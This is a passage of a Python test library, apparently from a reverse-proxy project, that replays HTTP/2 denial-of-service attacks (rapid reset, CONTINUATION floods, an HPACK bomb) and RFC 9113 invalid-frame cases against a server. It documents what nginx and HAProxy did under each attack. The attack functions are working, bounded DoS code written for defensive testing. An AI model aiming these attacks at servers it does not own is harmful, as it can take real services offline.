#!/usr/bin/env python3
"""
h2attack.py - plays the HTTP/2 attacks of issue 15, and invalid frames and stream states,
against a server, and reports what the server did. A library for the end-to-end tests of
fulcrum's HTTP/2 protections, and a command for trying them by hand:

    python3 tests/e2e/h2attack.py 127.0.0.1:8443 --tls                 # every attack
    python3 tests/e2e/h2attack.py 127.0.0.1:8080 rapid_reset ping_flood
    python3 tests/e2e/h2attack.py 127.0.0.1:8080 --list

It speaks HTTP/2 with prior knowledge over TCP (h2c), or over TLS with ALPN h2 (--tls; the
certificate is not verified). It is built on python3-h2's pieces: h2.connection for an ordinary
request (get()), hpack for header blocks (except where a block is crafted byte by byte), and
h2.errors for the names of error codes. Frames are written by hand (frame()), since the
attacks need frames that no well-behaved library would send.

Every attack function takes (host, port, tls=False, server_name=None, **params) and returns
an Outcome. Every one is bounded: in frames (its count parameters) and in time (time_limit,
default 10 s, for sending; then wait, default 3 s, of watching what the server does, ended
early when the server closes the connection). An Outcome has:

    name, params                what was played (params: the counts and sizes used)
    expected                    what RFC 9113 says the server must do, e.g. "connection
                                PROTOCOL_ERROR", "stream PROTOCOL_ERROR", or None for floods
    verdict                     for those with an expectation: "as expected", "stricter (...)",
                                "differs (...)"
    sent_frames, sent_bytes     what went out before the server closed or stopped reading
    send_blocked                True if the server stopped reading our frames for 2 s
    send_error                  e.g. "ECONNRESET after 1234 frames", or None
    frames                      Counter of the frame types the server sent (by name)
    received_bytes
    goaway                      the first GOAWAY: {"error": "ENHANCE_YOUR_CALM",
                                "last_stream_id": n, "debug": "...", "after": s} or None
    rst                         Counter of RST_STREAM error codes the server sent
    responses                   Counter of the :status of the response HEADERS it sent
    data_bytes                  DATA payload bytes the server sent
    closed                      "EOF", "RST", or None (still open at the end)
    closed_after                seconds from the start of the attack to the close (or None)
    server_settings             the server's SETTINGS
    notes                       anything else worth knowing
    summary()                   one line of all that

Using it in an end-to-end test (a sketch):

    import h2attack
    out = h2attack.rapid_reset("127.0.0.1", f.port, streams=2000)
    self.assertEqual(out.goaway and out.goaway["error"], "ENHANCE_YOUR_CALM", out.summary())
    self.assertTrue(out.closed, out.summary())
    out = h2attack.data_on_stream_0("127.0.0.1", f.port)
    self.assertEqual(out.verdict, "as expected", out.summary())
    out = h2attack.zero_window("127.0.0.1", f.port, path="/?size=10000000", wait=8)
    self.assertIsNotNone(out.closed_after or out.rst_after, out.summary())

Every attack opens its own connection, so they can run one after the other against one
fulcrum; what fulcrum's backends saw (fulcrum-backend's /stats) tells whether work for reset
streams reached them. out.summary() is the one line to put in an assertion's message.

run(host, port, names=None, tls=False, **kw) plays several (default: all of ATTACKS, in order)
and returns [Outcome]; get(host, port, path) makes one ordinary request with h2.connection and
returns (status, body), to check that a server serves h2 at all.

The attacks (ATTACKS: name -> function):

  rapid_reset            streams opened (HEADERS with END_STREAM) and reset (RST_STREAM
                         CANCEL) at once, `streams` of them (default 2000), without waiting
                         (CVE-2023-44487)
  continuation_flood     one HEADERS without END_HEADERS, then `frames` CONTINUATION frames
                         (default 20000) of `frame_bytes` (default 16) each, each a complete
                         header field, END_HEADERS never sent (CVE-2024-27316 and relatives)
  continuation_flood_big the same with 16384-byte frames, 400 of them (6.25 MiB of headers)
  hpack_bomb             stream 1 puts one 4,000-byte header into the HPACK dynamic table; the
                         HEADERS of stream 3 refer to it `refs` times (default 16000, one byte
                         each): 16 KB on the wire, 64 MB decoded
  settings_flood         `count` SETTINGS frames (default 20000), acknowledgements read
  ping_flood             `count` PING frames (default 20000), nothing read while sending (the
                         server's PING ACKs pile up), CVE-2019-9512
  empty_data_flood       one POST stream, then `count` empty DATA frames without END_STREAM
                         (default 20000), CVE-2019-9518
  zero_window            SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE ever, then a GET
                         of `path`: the response can never be sent. How long until the server
                         gives up (watched for `wait`, default 15 s)?
  stall_reading          windows wide open, a GET of a large `path`, then the socket is not
                         read for `wait` seconds (default 15); the server's TCP state is watched
                         (TCP_INFO) and what it sent is then drained

  Invalid frames and states, each with the RFC 9113 expectation (section in brackets):
  data_on_stream_0            DATA on stream 0: connection PROTOCOL_ERROR [6.1]
  headers_even_stream         HEADERS on stream 2: connection PROTOCOL_ERROR [5.1.1]
  window_update_zero          WINDOW_UPDATE of 0 on stream 0: connection PROTOCOL_ERROR [6.9]
  window_update_zero_stream   WINDOW_UPDATE of 0 on an open stream: stream PROTOCOL_ERROR [6.9]
  window_update_overflow      connection window past 2^31-1: connection FLOW_CONTROL_ERROR [6.9.1]
  frame_too_large             HEADERS longer than the server's SETTINGS_MAX_FRAME_SIZE:
                              connection FRAME_SIZE_ERROR [4.2]
  ping_bad_length             PING of 7 bytes: connection FRAME_SIZE_ERROR [6.7]
  stream_id_backwards         HEADERS on stream 5, then on stream 3: connection
                              PROTOCOL_ERROR [5.1.1]
  continuation_without_headers  CONTINUATION with no HEADERS before it: connection
                              PROTOCOL_ERROR [6.10]
  headers_interrupted         HEADERS without END_HEADERS, then a PING: connection
                              PROTOCOL_ERROR [6.10]
  rst_idle_stream             RST_STREAM on an idle stream: connection PROTOCOL_ERROR [6.4]
  data_idle_stream            DATA on an idle stream: connection PROTOCOL_ERROR [5.1]
  data_after_end_stream       DATA after END_STREAM: stream STREAM_CLOSED [5.1]
  data_exceeds_window         more DATA than the server's window: FLOW_CONTROL_ERROR [6.9.1]
  priority_self_dependency    PRIORITY making a stream depend on itself: stream
                              PROTOCOL_ERROR [5.3.1]
  settings_enable_push_2      SETTINGS_ENABLE_PUSH 2: connection PROTOCOL_ERROR [6.5.2]
  settings_window_too_big     SETTINGS_INITIAL_WINDOW_SIZE 2^31: connection
                              FLOW_CONTROL_ERROR [6.5.2]
  settings_frame_size_small   SETTINGS_MAX_FRAME_SIZE 16383: connection PROTOCOL_ERROR [6.5.2]
  bad_preface                 a wrong connection preface: connection PROTOCOL_ERROR [3.4]
                              (GOAWAY may be left out)
  malformed_uppercase         a header name with an upper-case letter: stream PROTOCOL_ERROR
  malformed_connection_header a Connection header: stream PROTOCOL_ERROR [8.2.2]
  malformed_no_method         no :method: stream PROTOCOL_ERROR [8.3.1]
  malformed_pseudo_after      a pseudo-header after a regular one: stream PROTOCOL_ERROR [8.3]
  malformed_te                TE: gzip: stream PROTOCOL_ERROR [8.2.2]
  malformed_content_length    content-length 10 with 5 bytes of DATA: stream
                              PROTOCOL_ERROR [8.1.1]
  (For malformed requests [8.1.1] lets a server answer 4xx before resetting the stream, or
  instead, so a 4xx response also counts as expected.)

What nginx 1.22 and HAProxy 2.6 did (Debian 12: nginx 1.22.1-9+deb12u*, HAProxy 2.6.12;
measured with tests/e2e/peers_selfcheck.py --attacks, h2c, nginx `listen ... http2` serving
`return 200` itself with send_timeout 5s; HAProxy `bind ... proto h2`, timeout client 5s, in
front of an HTTP/1.1 nginx; defaults otherwise). This is what "right" looks like in practice:

                             nginx 1.22                      HAProxy 2.6
  rapid_reset (2000)         GOAWAY NO_ERROR, last_stream_id   no frame at all for the reset
                             1171-1999 (stream 586-1000), and  streams, no GOAWAY, connection
                             close, within 0.05 s; 129 streams kept open; its backend saw 0-54
                             RST_STREAM REFUSED_STREAM; it     connections and 0 requests
                             had opened ~550-850 upstream
                             connections for /upload (0
                             answered); with `return 200`
                             it answered 1000 then GOAWAY
                             (keepalive_requests 1000)
  continuation_flood         400 response, then GOAWAY         GOAWAY INTERNAL_ERROR, close,
  (16-byte frames)           ENHANCE_YOUR_CALM, close, after   after ~1400 frames (22 KB: its
                             ~2800 frames (45 KB of headers)   16 KB buffer)
  continuation_flood_big     GOAWAY ENHANCE_YOUR_CALM, close,  GOAWAY INTERNAL_ERROR, close,
  (16 KB frames)             after ~45 frames                  after ~15 frames
  hpack_bomb                 stream 1 answered; GOAWAY         stream 1 answered; GOAWAY
                             ENHANCE_YOUR_CALM on stream 3     COMPRESSION_ERROR, close
  settings_flood (20000)     all acknowledged, no limit        all acknowledged, no limit
  ping_flood (20000, unread) all answered, no limit           all answered, no limit
  empty_data_flood (20000)   accepted, no limit                accepted, no limit
  zero_window                HEADERS 200 sent, then after      HEADERS 200 and an empty DATA
                             send_timeout (5 s) RST_STREAM     frame; after 10 s GOAWAY
                             PROTOCOL_ERROR on that stream;    NO_ERROR and close (timeout
                             the connection stays usable       client was 5 s, server 10 s)
  stall_reading (64 MiB)     closed after send_timeout (5 s)   closed after 10 s
  data_on_stream_0           GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  headers_even_stream        GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  window_update_zero         GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  window_update_zero_stream  GOAWAY PROTOCOL_ERROR (stricter)  RST_STREAM PROTOCOL_ERROR
  window_update_overflow     GOAWAY FLOW_CONTROL_ERROR         GOAWAY FLOW_CONTROL_ERROR
  frame_too_large            n/a (allows 2^24-1 byte frames)   GOAWAY FRAME_SIZE_ERROR
  ping_bad_length            GOAWAY FRAME_SIZE_ERROR           GOAWAY FRAME_SIZE_ERROR
  stream_id_backwards        GOAWAY PROTOCOL_ERROR             GOAWAY STREAM_CLOSED
  continuation_without_hdrs  GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  headers_interrupted        GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  rst_idle_stream            ignored (differs)                 GOAWAY PROTOCOL_ERROR
  data_idle_stream           ignored (differs)                 GOAWAY PROTOCOL_ERROR
  data_after_end_stream      ignored, 200 (differs)            RST_STREAM STREAM_CLOSED
  data_exceeds_window        n/a (opens the window to 2^31-1   not conclusive (opens the
                             as soon as a body is read)        window as it forwards)
  priority_self_dependency   GOAWAY PROTOCOL_ERROR (stricter)  GOAWAY PROTOCOL_ERROR (stricter)
  settings_enable_push_2     GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  settings_window_too_big    GOAWAY FLOW_CONTROL_ERROR         GOAWAY FLOW_CONTROL_ERROR
  settings_frame_size_small  GOAWAY PROTOCOL_ERROR             GOAWAY PROTOCOL_ERROR
  bad_preface                GOAWAY PROTOCOL_ERROR             closed without GOAWAY
  malformed_uppercase        RST_STREAM PROTOCOL_ERROR         RST_STREAM PROTOCOL_ERROR
  malformed_connection_hdr   200 (differs)                     RST_STREAM PROTOCOL_ERROR
  malformed_no_method        400                               RST_STREAM PROTOCOL_ERROR
  malformed_pseudo_after     200 (differs)                     RST_STREAM PROTOCOL_ERROR
  malformed_te               200 (differs)                     RST_STREAM PROTOCOL_ERROR
  malformed_content_length   400                               RST_STREAM PROTOCOL_ERROR

Over TLS (--tls) both did the same. HAProxy (whose h2 code is its own, as strict as
nghttp2 on these) is the better model of "right" for the invalid frames; nginx is lax about
frames on idle or closed streams and malformed requests. Neither limits SETTINGS, PING or empty
DATA floods at these counts, so for those the issue's own limits are the reference: the attack
functions report counts (how many frames the server took before a GOAWAY, if any), and a test
asserts on them. For time-outs (zero_window, stall_reading) give `wait` more than the timeout
under test.
"""
import argparse
import collections
import errno
import select
import socket
import ssl
import struct
import sys
import time

try:
    import h2.connection
    import h2.config
    import h2.errors
    import h2.events
    import h2.exceptions
    import hpack
except ImportError:  # a python3 other than Debian's: use Debian's python3-h2 anyway
    sys.path.append("/usr/lib/python3/dist-packages")
    import h2.connection
    import h2.config
    import h2.errors
    import h2.events
    import h2.exceptions
    import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
               5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE",
               9: "CONTINUATION"}
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20

S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, S_INITIAL_WINDOW_SIZE, \
    S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = range(1, 7)
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS",
                 4: "INITIAL_WINDOW_SIZE", 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE",
                 8: "ENABLE_CONNECT_PROTOCOL"}

SEND_STALL = 2.0          # seconds without being able to write: the server stopped reading
DEFAULT_TIME_LIMIT = 10.0  # seconds of sending, at most
DEFAULT_WAIT = 3.0         # seconds of watching after sending


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


# ---------------------------------------------------------------------------------------------
# Frames and header blocks, by hand

def frame(ftype, flags, stream_id, payload=b""):
    """One frame: 9-byte header (24-bit length, type, flags, 31-bit stream id) and payload."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream_id & 0x7FFFFFFF) \
        + payload


def settings_frame(settings=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in settings))


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment & 0xFFFFFFFF))


def rst_stream(stream_id, code=h2.errors.ErrorCodes.CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", int(code)))


def ping(data=b"h2attack", ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """An HPACK integer (RFC 7541 5.1) with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    if isinstance(s, str):
        s = s.encode()
    return hpack_int(len(s), 7) + s


def hpack_literal(name, value, index=False):
    """A literal header field with a new name: with incremental indexing (index=True, 0x40)
    or without indexing (0x00). No Huffman coding."""
    return bytes([0x40 if index else 0x00]) + hpack_string(name) + hpack_string(value)


def request_headers(authority, path="/", method="GET", extra=()):
    return [(":method", method), (":scheme", "https" if authority[1] else "http"),
            (":authority", authority[0]), (":path", path)] + list(extra)


# ---------------------------------------------------------------------------------------------
# The connection and what it observed

class Outcome:
    def __init__(self, name, params, expected=None):
        self.name = name
        self.params = params
        self.expected = expected
        self.sent_frames = 0
        self.sent_bytes = 0
        self.send_blocked = False
        self.send_error = None
        self.frames = collections.Counter()
        self.received_bytes = 0
        self.goaway = None
        self.goaways = []
        self.rst = collections.Counter()
        self.rst_streams = {}
        self.rst_after = None
        self.window_updates = collections.Counter()
        self.applicable = True
        self.responses = collections.Counter()
        self.data_bytes = 0
        self.closed = None
        self.closed_after = None
        self.server_settings = {}
        self.notes = []
        self.elapsed = 0.0
        self.verdict = None
        self.h2 = True   # False: the server never spoke HTTP/2 (no SETTINGS)

    def judge(self):
        """Compares what happened with expected: "connection CODE" is met by a GOAWAY with
        CODE; "stream CODE" by an RST_STREAM with CODE (or, for malformed requests, a 4xx
        response), and a GOAWAY with CODE is "stricter" (RFC 9113 5.4.1 allows it)."""
        if not self.expected:
            return None
        if not self.h2:
            self.verdict = "not HTTP/2: the server sent no SETTINGS"
            return self.verdict
        if not self.applicable:
            self.verdict = "not applicable"
            return self.verdict
        kind, code = self.expected.split()[:2]
        codes = code.split("|")
        g = self.goaway["error"] if self.goaway else None
        if kind == "connection":
            if g in codes:
                self.verdict = "as expected"
            elif self.closed and not self.goaway and "bad_preface" == self.name:
                self.verdict = "as expected (closed without GOAWAY, which 3.4 allows)"
            else:
                self.verdict = "differs (%s)" % self.what()
        else:
            if any(self.rst.get(c) for c in codes):
                self.verdict = "as expected"
            elif "4xx" in self.expected and any(400 <= s < 500 for s in self.responses):
                self.verdict = "as expected (a %s response)" % ",".join(
                    str(s) for s in sorted(self.responses))
            elif g in codes:
                self.verdict = "stricter (connection error %s)" % g
            else:
                self.verdict = "differs (%s)" % self.what()
        return self.verdict

    def what(self):
        parts = []
        if self.goaway:
            parts.append("GOAWAY %s last_stream_id=%d%s after %.2fs" % (
                self.goaway["error"], self.goaway["last_stream_id"],
                " debug=%r" % self.goaway["debug"] if self.goaway["debug"] else "",
                self.goaway["after"]))
        if self.rst:
            parts.append("RST_STREAM " + ", ".join("%s x%d" % kv for kv in self.rst.items()) +
                         " (first after %.2fs)" % self.rst_after)
        if self.responses:
            parts.append("responses " + ", ".join("%s x%d" % kv
                                                   for kv in sorted(self.responses.items())))
        if self.closed and self.closed_after is not None:
            parts.append("closed (%s) after %.2fs" % (self.closed, self.closed_after))
        elif self.closed:
            parts.append("closed (%s)" % self.closed)
        else:
            parts.append("still open")
        return "; ".join(parts)

    def summary(self):
        s = "%s: %s" % (self.name, self.what())
        s += "; sent %d frames, %d bytes%s%s; got %s, %d bytes%s" % (
            self.sent_frames, self.sent_bytes,
            " (server stopped reading)" if self.send_blocked else "",
            " (%s)" % self.send_error if self.send_error else "",
            ", ".join("%s %d" % kv for kv in sorted(self.frames.items())) or "no frame",
            self.received_bytes, " (%d of DATA payload)" % self.data_bytes
            if self.data_bytes else "")
        if self.notes:
            s += "; " + "; ".join(self.notes)
        if self.expected:
            s += " | expected %s: %s" % (self.expected, self.verdict)
        return s

    def __repr__(self):
        return "<Outcome %s>" % self.summary()


class Conn:
    """A client connection that writes raw frames and parses every frame the server sends."""

    def __init__(self, host, port, tls=False, server_name=None, timeout=5.0, outcome=None):
        self.out = outcome or Outcome("?", {})
        self.authority = ("%s:%d" % (host, port), tls)
        raw = socket.create_connection((host, port), timeout=timeout)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            try:
                self.sock = ctx.wrap_socket(raw, server_hostname=server_name or host)
            except BaseException:
                raw.close()
                raise
            if self.sock.selected_alpn_protocol() != "h2":
                self.sock.close()
                raise ConnectionError("the server did not select ALPN h2 (got %r)"
                                      % self.sock.selected_alpn_protocol())
        else:
            self.sock = raw
        self.sock.setblocking(False)
        self.tls = tls
        self.rbuf = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.encoder = hpack.Encoder()
        self.t0 = time.monotonic()
        self.eof = False
        self.header_block = None  # (stream id, bytes) while a server's block is incomplete
        self.auto_ack = True      # acknowledge the server's SETTINGS
        self.auto_window = False  # give back every DATA byte as WINDOW_UPDATE
        self.pending = bytearray()  # our automatic answers, sent before the next write
        self.settings_seen = False
        self.next_stream = 1
        self.flow_check = None
        self.first_bytes = b""

    # -- timing
    def start_clock(self):
        self.t0 = time.monotonic()

    def now(self):
        return time.monotonic() - self.t0

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    # -- reading
    def _closed(self, how):
        if not self.eof:
            self.eof = True
            self.out.closed = how
            self.out.closed_after = self.now()

    def _recv(self):
        """Reads what is there now (never blocks); False at EOF or on an error."""
        if self.eof:
            return False
        got = False
        for _ in range(64):
            try:
                data = self.sock.recv(262144)
            except (ssl.SSLWantReadError, BlockingIOError, InterruptedError):
                return True
            except ssl.SSLWantWriteError:
                return True
            except ConnectionResetError:
                self._closed("RST")
                return False
            except (OSError, ssl.SSLError) as e:
                self._closed("RST" if getattr(e, "errno", None) == errno.ECONNRESET else
                             "error: %s" % e)
                return False
            if not data:
                self._closed("EOF")
                return False
            got = True
            if not self.out.received_bytes:
                self.first_bytes = data[:40]
            self.out.received_bytes += len(data)
            self.rbuf += data
            self._parse()
            if not (self.tls and self.sock.pending()):
                if len(data) < 262144:
                    break
        return got or True

    def _parse(self):
        while len(self.rbuf) >= 9:
            length = self.rbuf[0] << 16 | self.rbuf[1] << 8 | self.rbuf[2]
            if len(self.rbuf) < 9 + length:
                return
            ftype, flags = self.rbuf[3], self.rbuf[4]
            sid = struct.unpack(">I", self.rbuf[5:9])[0] & 0x7FFFFFFF
            payload = bytes(self.rbuf[9:9 + length])
            del self.rbuf[:9 + length]
            self._frame(ftype, flags, sid, payload)

    def _frame(self, ftype, flags, sid, payload):
        o = self.out
        o.frames[FRAME_NAMES.get(ftype, "type%d" % ftype)] += 1
        if ftype == SETTINGS:
            if not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    o.server_settings[SETTING_NAMES.get(k, str(k))] = v
                self.settings_seen = True
                if self.auto_ack:
                    self.pending += settings_frame(ack=True)
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            g = {"error": error_name(code), "last_stream_id": last & 0x7FFFFFFF,
                 "debug": payload[8:200].decode("latin-1"), "after": self.now()}
            o.goaways.append(g)
            if o.goaway is None:
                o.goaway = g
        elif ftype == RST_STREAM and len(payload) == 4:
            code = error_name(struct.unpack(">I", payload)[0])
            o.rst[code] += 1
            o.rst_streams.setdefault(sid, code)
            if o.rst_after is None:
                o.rst_after = self.now()
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            o.window_updates[sid] += struct.unpack(">I", payload)[0] & 0x7FFFFFFF
        elif ftype == DATA:
            body = payload
            if flags & PADDED and payload:
                body = payload[1:len(payload) - payload[0]]
            o.data_bytes += len(body)
            if self.auto_window and payload:
                self.pending += window_update(0, len(payload)) + window_update(sid, len(payload))
        elif ftype in (HEADERS, PUSH_PROMISE):
            block = payload
            if flags & PADDED and block:
                block = block[1:len(block) - block[0]]
            if ftype == HEADERS and flags & PRIORITY_FLAG:
                block = block[5:]
            if ftype == PUSH_PROMISE:
                block = block[4:]
            if flags & END_HEADERS:
                self._headers(sid, block)
            else:
                self.header_block = (sid, bytearray(block))
        elif ftype == CONTINUATION and self.header_block:
            self.header_block[1].extend(payload)
            if flags & END_HEADERS:
                sid, block = self.header_block
                self.header_block = None
                self._headers(sid, bytes(block))

    def _headers(self, sid, block):
        try:
            fields = self.decoder.decode(block, raw=True)
        except Exception as e:  # keep going: later blocks may not decode either
            self.out.notes.append("cannot decode the server's HPACK block: %s" % e)
            return
        for k, v in fields:
            if k == b":status":
                try:
                    self.out.responses[int(v)] += 1
                except ValueError:
                    pass

    def read_for(self, seconds, until=None):
        """Reads for seconds, or until the connection closes, or until until() is true."""
        deadline = time.monotonic() + seconds
        self._flush_pending(deadline)
        while not self.eof:
            if until and until():
                return True
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            if not (self.tls and self.sock.pending()):
                r, _, _ = select.select([self.sock], [], [], min(left, 0.1))
                if not r:
                    continue
            self._recv()
            self._flush_pending(deadline)
        return bool(until and until())

    # -- writing
    def _flush_pending(self, deadline):
        if self.pending and not self.eof and not self.out.send_error:
            data, self.pending = bytes(self.pending), bytearray()
            self._write(data, deadline, read=True)

    def _write(self, data, deadline, read):
        view = memoryview(data)
        stalled_since = None
        while view and not self.eof:
            if read and not (self.tls and self.sock.pending()):
                r, w, _ = select.select([self.sock], [self.sock], [], 0.1)
            else:
                r, w = [], select.select([], [self.sock], [], 0.1)[1]
            if self.tls and self.sock.pending() and read:
                r = [self.sock]
            if r:
                self._recv()
            if w:
                stalled_since = None
                try:
                    n = self.sock.send(view[:262144])
                    view = view[n:]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError,
                        InterruptedError):
                    pass
                except (OSError, ssl.SSLError) as e:
                    if isinstance(e, ssl.SSLError):
                        name = "TLS %s" % (e.reason or type(e).__name__)
                    else:
                        name = errno.errorcode.get(e.errno or 0, str(e))
                    self.out.send_error = "%s after %d frames" % (name, self.out.sent_frames)
                    return False
            else:
                now = time.monotonic()
                stalled_since = stalled_since or now
                if now - stalled_since > SEND_STALL:
                    self.out.send_blocked = True
                    return False
            if time.monotonic() > deadline:
                return False
        return not view

    def send(self, frames, deadline=None, read=True, count=1):
        """Writes frames (bytes, several frames at once counting as count), reading what the
        server sends meanwhile (unless read is False). False when the server closed, stopped
        reading for SEND_STALL seconds, or the deadline passed."""
        if self.eof or self.out.send_error or self.out.send_blocked:
            return False
        deadline = deadline or time.monotonic() + DEFAULT_TIME_LIMIT
        if read and self.pending:
            self._flush_pending(deadline)
        if not self._write(frames, deadline, read):
            return False
        self.out.sent_frames += count
        self.out.sent_bytes += len(frames)
        return True

    def handshake(self, settings=(), preface=PREFACE, timeout=5.0):
        """Sends the preface and our SETTINGS, and waits for the server's SETTINGS."""
        deadline = time.monotonic() + timeout
        self.send(preface + settings_frame(settings), deadline, count=1)
        self.read_for(timeout, until=lambda: self.settings_seen)
        if not self.settings_seen:
            raise ConnectionError("no SETTINGS from the server (%s%s)" % (
                self.out.what(), ", it sent %r" % self.first_bytes if self.first_bytes else ""))
        self._flush_pending(deadline)

    def headers_block(self, path="/", method="GET", extra=()):
        return self.encoder.encode(request_headers(self.authority, path, method, extra))

    def new_stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid


def _attack(name, expected=None, **defaults):
    """Decorator: runs fn(conn, deadline, **params) on a fresh connection and returns its
    Outcome, with the connection's setup, timing, bounds and watching done here."""
    def wrap(fn):
        def run(host, port, tls=False, server_name=None, time_limit=DEFAULT_TIME_LIMIT,
                wait=None, **params):
            p = dict(defaults)
            p.update(params)
            w = p.pop("wait", DEFAULT_WAIT)
            w = w if wait is None else wait
            out = Outcome(name, dict(p), p.pop("expected", expected))
            t_start = time.monotonic()
            try:
                c = Conn(host, port, tls, server_name, outcome=out)
            except (OSError, ssl.SSLError, ConnectionError) as e:
                out.notes.append("cannot connect: %s" % e)
                out.h2 = False
                out.judge()
                return out
            try:
                if not p.pop("no_handshake", False):
                    c.handshake(p.pop("settings", ()))
                    c.read_for(0.05)  # the server's first frames (WINDOW_UPDATE) before we start
                c.start_clock()
                deadline = time.monotonic() + time_limit
                fn(c, deadline, **p)
                # Is the server still there? A PING it must answer, unless it closed.
                if not c.eof and not out.send_error and not out.send_blocked \
                        and fn.__name__ not in ("bad_preface",):
                    c.send(ping(b"probe!!!"), time.monotonic() + 2.0)
                c.read_for(w)
            except ConnectionError as e:
                out.notes.append(str(e))
                out.h2 = c.settings_seen
            finally:
                c.close()
                out.elapsed = time.monotonic() - t_start
            if c.flow_check and not (out.rst or out.goaway):
                sid, before = c.flow_check
                if out.window_updates.get(sid, 0) > before:
                    out.notes.append("the server opened the stream's window by %d more while "
                                     "the DATA was on its way: not conclusive"
                                     % (out.window_updates[sid] - before))
                    out.applicable = False
            out.judge()
            return out
        run.__name__ = fn.__name__
        run.__doc__ = fn.__doc__
        run.attack = name
        run.expected = expected
        run.params = tuple(defaults)
        return run
    return wrap


# ---------------------------------------------------------------------------------------------
# Attacks

def _batched(c, deadline, total, make, batch=100, read=True, per=1):
    """Sends total items made by make(i) (each per frames), batch at a time; returns how many
    were sent."""
    i = 0
    while i < total and time.monotonic() < deadline:
        n = min(batch, total - i)
        if not c.send(b"".join(make(i + k) for k in range(n)), deadline, read=read,
                      count=n * per):
            break
        i += n
    return i


@_attack("rapid_reset", streams=2000, path="/")
def rapid_reset(c, deadline, streams, path):
    """Opens and resets streams as fast as it can."""
    def make(i):
        sid = 1 + 2 * i
        return frame(HEADERS, END_HEADERS | END_STREAM, sid, c.headers_block(path)) + \
            rst_stream(sid)
    sent = _batched(c, deadline, streams, make, batch=50, per=2)
    c.out.params["streams_sent"] = sent


def _continuation(c, deadline, frames, frame_bytes, path):
    sid = c.new_stream()
    c.send(frame(HEADERS, END_STREAM, sid, c.headers_block(path)), deadline)
    name = b"x-c"
    value_len = max(1, frame_bytes - 1 - 1 - len(name) - 3)

    def make(i):
        v = (b"%d-" % i + b"a" * value_len)[:value_len]
        return frame(CONTINUATION, 0, sid, hpack_literal(name, v))
    c.out.params["frames_sent"] = _batched(c, deadline, frames, make,
                                           batch=max(1, min(200, 262144 // (frame_bytes + 9))))


@_attack("continuation_flood", frames=20000, frame_bytes=16, path="/")
def continuation_flood(c, deadline, frames, frame_bytes, path):
    """A header block that never ends, in CONTINUATION frames of frame_bytes each."""
    _continuation(c, deadline, frames, frame_bytes, path)


@_attack("continuation_flood_big", frames=400, frame_bytes=16384, path="/")
def continuation_flood_big(c, deadline, frames, frame_bytes, path):
    """The same with large frames: many bytes of headers."""
    _continuation(c, deadline, frames, frame_bytes, path)


@_attack("hpack_bomb", refs=16000, value_bytes=4000, path="/")
def hpack_bomb(c, deadline, refs, value_bytes, path):
    """One big header indexed by stream 1, referred to refs times by stream 3."""
    auth = c.authority[0]
    pseudo = (hpack_literal(":method", "GET") + hpack_literal(":scheme", "http" if not c.tls
                                                              else "https")
              + hpack_literal(":authority", auth) + hpack_literal(":path", path))
    first = pseudo + hpack_literal("x-bomb", b"b" * value_bytes, index=True)
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first), deadline)
    c.read_for(0.5, until=lambda: c.out.responses or c.eof)
    # The dynamic table now holds x-bomb first: index 62 (0xBE), one byte per reference.
    block = pseudo + bytes([0xBE]) * refs
    max_frame = c.out.server_settings.get("MAX_FRAME_SIZE", 16384)
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)]
    for k, chunk in enumerate(chunks):
        last = k == len(chunks) - 1
        ftype = HEADERS if k == 0 else CONTINUATION
        flags = (END_STREAM if k == 0 else 0) | (END_HEADERS if last else 0)
        if not c.send(frame(ftype, flags, 3, chunk), deadline):
            break
